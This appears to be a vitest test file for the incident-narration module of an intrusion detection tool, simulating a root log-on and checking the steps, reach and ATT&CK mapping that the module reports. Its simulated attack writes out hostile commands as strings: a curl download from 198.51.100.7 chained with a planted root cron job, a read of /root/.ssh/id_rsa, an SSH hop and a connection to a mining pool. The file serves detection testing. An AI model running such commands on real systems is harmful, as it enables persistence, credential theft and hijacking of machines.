import { beforeEach, describe, expect, it } from 'vitest';
import { alertOf, attacker, connect, type Disk, emptyDisk, logOn, pool, worldOf, write } from '../../../test/story-scenes.ts';
import { clock, Machine, t0 } from '../../../test/told-machine.ts';
import type { Story } from '../../core/incident.ts';
import { cellOf, matrixCells } from './matrix.ts';
import { tellStory } from './story.ts';
import { mergeStories } from './story-merge.ts';
import { quietOf } from './story-quiet.ts';
import { reachOf } from './story-reach.ts';
import { stepsOf } from './story-steps.ts';

let machine: Machine, disk: Disk;
beforeEach(() => {
  clock.now = t0;
  machine = new Machine();
  disk = emptyDisk();
});

/** Logs on, fetches, plants a job, reads a key, goes on to a neighbour and a pool, and runs some commands that do nothing. */
function intrusion(): { story: Story; alerts: ReturnType<typeof alertOf>[] } {
  const { shell } = logOn(machine, 'root', attacker);
  const sh = machine.run(shell, '/bin/sh', 'sh -c curl -o /tmp/.x/m http://198.51.100.7/m; echo "* * * * * root /tmp/.x/m" > /etc/cron.d/m');
  for (const name of ['id', 'uname', 'ps', 'nproc', 'ls']) machine.end(machine.run(sh, `/usr/bin/${name}`, name));
  const curl = machine.run(sh, '/usr/bin/curl', 'curl -o /tmp/.x/m http://198.51.100.7/m');
  connect(machine, curl, pool, 80);
  write(machine, disk, curl, '/tmp/.x/m', 'elf');
  machine.end(curl);
  const planted = write(machine, disk, sh, '/etc/cron.d/m', '* * * * * root /tmp/.x/m\n');
  const cat = machine.run(sh, '/usr/bin/cat', 'cat /root/.ssh/id_rsa');
  machine.tell('file_event', cat, { action: 'read', file_path: '/root/.ssh/id_rsa' });
  machine.end(cat);
  const ssh = machine.run(sh, '/usr/bin/ssh', 'ssh root@10.0.0.8');
  connect(machine, ssh, '10.0.0.8', 22);
  const m = machine.run(sh, '/tmp/.x/m', '/tmp/.x/m');
  connect(machine, m, '127.0.0.1', 3306);
  const told = connect(machine, m, '198.51.100.99', 3333);
  const alerts = [alertOf(told, { attack: ['T1496.001'], level: 'critical' }), alertOf(planted, { attack: ['T1053.003'] })];
  return { alerts, story: tellStory({ alerts, findings: [] }, worldOf(machine, disk)) };
}

describe('the steps of a story', () => {
  it('say in order what was done, each with its technique and its cell', () => {
    const { story } = intrusion();
    const steps = stepsOf(story);
    const texts = steps.map(({ text }) => text.en);
    const at = (part: string): number => texts.findIndex((one) => one.includes(part));
    expect([at(`way in: log-on of root from ${attacker}`), at('curl downloaded /tmp/.x/m from 198.51.100.7'), at('planted cron: /etc/cron.d/m:1: * * * * * root /tmp/.x/m (runs commands at set times)'), at('cat read the credential /root/.ssh/id_rsa'), at('went on by SSH to another machine, 10.0.0.8'), at('m connected to 198.51.100.99:3333 on the internet')]).toEqual(expect.not.arrayContaining([-1]));
    expect(at('curl downloaded')).toBeLessThan(at('planted cron'));
    expect(at('planted cron')).toBeLessThan(at('read the credential'));
    expect(steps.filter(({ attack, matrix }) => attack.length === 0 || matrix.length === 0)).toEqual([]);
    expect(steps.find(({ deed }) => deed === 'alert')).toMatchObject({ level: 'high' });
    expect(steps.map(({ time }) => time)).toEqual(steps.map(({ time }) => time).toSorted((a, b) => a - b));
    for (const { text } of steps) expect(text.zh).not.toBe('');
  });

  it('tell commands that left nothing behind as one, unless all are wanted', () => {
    const { story } = intrusion();
    expect(quietOf(story).ids.size).toBe(5);
    const texts = stepsOf(story).map(({ text }) => text.en);
    expect(texts).toContain('sh ran 5 more commands that left nothing behind: id, uname, ps, nproc, ls');
    expect(texts.some((one) => one === 'ran id')).toBe(false);
    expect(stepsOf(story, true).map(({ text }) => text.en)).toContain('ran id');
  });

  it('are the same in whatever order the alerts come and the graph stands', () => {
    const { story, alerts } = intrusion();
    const expected = JSON.stringify(stepsOf(story));
    let seed = 7;
    const shuffled = <T>(list: readonly T[]): T[] => list.map((one) => [one, seed = (seed * 48_271) % 2_147_483_647] as const).sort((a, b) => a[1] - b[1]).map(([one]) => one);
    for (let i = 0; i < 20; i++) expect(JSON.stringify(stepsOf({ ...story, nodes: shuffled(story.nodes), edges: shuffled(story.edges) }))).toBe(expected);
    expect(JSON.stringify(stepsOf(tellStory({ alerts: alerts.toReversed(), findings: [] }, worldOf(machine, disk))))).toBe(expected);
  });

  it('fold a thousand files of one program into one', () => {
    const { shell } = logOn(machine, 'root', attacker);
    const lock = machine.run(shell, '/tmp/lock', '/tmp/lock /srv/data');
    for (let i = 0; i < 30; i++) write(machine, disk, lock, `/srv/data/${i}.locked`, 'x');
    const story = tellStory({ alerts: [alertOf(connect(machine, lock, pool, 443))], findings: [] }, worldOf(machine, disk));
    const wrote = stepsOf(story).filter(({ deed }) => deed === 'wrote');
    expect(wrote).toHaveLength(1);
    expect(wrote[0]).toMatchObject({ count: 30, text: { en: 'lock wrote 30 files: /srv/data/0.locked, /srv/data/1.locked, /srv/data/2.locked, /srv/data/3.locked, /srv/data/4.locked, …' } });
  });
});

describe('the reach of a story', () => {
  it('names volumes, databases, neighbours, credentials and what was planted', () => {
    const { story } = intrusion();
    expect(reachOf(story, [{ at: '/', device: '/dev/vda1', type: 'ext4' }, { at: '/tmp', device: 'tmpfs', type: 'tmpfs' }])).toMatchObject({
      living: 3, planted: ['/etc/cron.d/m:1: * * * * * root /tmp/.x/m'], secrets: ['/root/.ssh/id_rsa'], accounts: ['root'], databases: ['MySQL (127.0.0.1:3306)'], neighbours: ['10.0.0.8:22'], outside: ['198.51.100.7:80', '198.51.100.99:3333'],
      volumes: [{ at: '/', device: '/dev/vda1' }, { at: '/tmp', device: 'tmpfs', files: 1, bytes: 3 }],
    });
  });
});

describe('a story told again', () => {
  it('keeps what is no longer remembered, and knows that it does not run any more', () => {
    const { story, alerts } = intrusion();
    const later = new Machine();
    const again = tellStory({ alerts, findings: [] }, worldOf(later, disk));
    expect(again.nodes.length).toBeLessThan(story.nodes.length);
    const merged = mergeStories(story, again);
    expect(new Set(merged.nodes.map(({ id }) => id))).toEqual(new Set([...story.nodes, ...again.nodes].map(({ id }) => id)));
    expect(merged.nodes.some(({ kind, lives }) => kind === 'process' && lives === true)).toBe(false);
    expect(merged.entry).toMatchObject({ kind: 'login', address: attacker });
    expect(mergeStories(story, story)).toMatchObject({ nodes: story.nodes, edges: story.edges });
  });
});

it('every cell of the matrix has a technique, and none stands in two', () => {
  expect(matrixCells.length).toBeGreaterThan(25);
  expect(new Set(matrixCells.map(({ id }) => id)).size).toBe(matrixCells.length);
  expect(cellOf('T1059.004')?.id).toBe('shell-run');
  expect(cellOf('T1552.005')?.id).toBe('metadata');
  expect(cellOf('T1552.001')?.id).toBe('app-secret');
  expect(cellOf('T9999')).toBeUndefined();
});
